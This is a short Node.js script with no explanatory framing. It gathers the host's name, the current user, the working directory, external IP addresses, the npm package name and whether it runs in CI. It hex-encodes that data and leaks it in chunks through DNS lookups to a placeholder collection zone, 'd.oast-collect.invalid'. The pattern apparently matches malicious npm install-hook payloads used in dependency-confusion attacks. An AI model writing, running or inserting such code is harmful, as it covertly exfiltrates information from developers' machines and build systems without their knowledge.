const os = require('os');
const dns = require('dns');
const { execFile } = require('child_process');

const ZONE = 'd.oast-collect.invalid';
const id = Math.random().toString(36).slice(2, 8);

function info() {
  let user = '';
  try { user = os.userInfo().username; } catch (e) {}
  const nets = [];
  const ifs = os.networkInterfaces();
  for (const k of Object.keys(ifs)) {
    for (const a of ifs[k] || []) if (a.family === 'IPv4' && !a.internal) nets.push(a.address);
  }
  return [
    os.hostname(),
    user,
    process.cwd(),
    nets.join(','),
    process.env.npm_package_name || '',
    process.env.CI ? 'ci' : 'local',
  ].join('|');
}

function chunks(hex, n) {
  const out = [];
  for (let i = 0; i < hex.length; i += n) out.push(hex.slice(i, i + n));
  return out;
}

function send(label) {
  return new Promise((resolve) => {
    dns.resolve4(label, () => {
      execFile('nslookup', [label], { timeout: 4000 }, () => resolve());
    });
  });
}

(async () => {
  const hex = Buffer.from(info()).toString('hex');
  const parts = chunks(hex, 60);
  await send(`${parts.length}.c.${id}.${ZONE}`);
  for (let i = 0; i < parts.length; i++) {
    await send(`${i}.${parts[i]}.${id}.${ZONE}`);
  }
})();
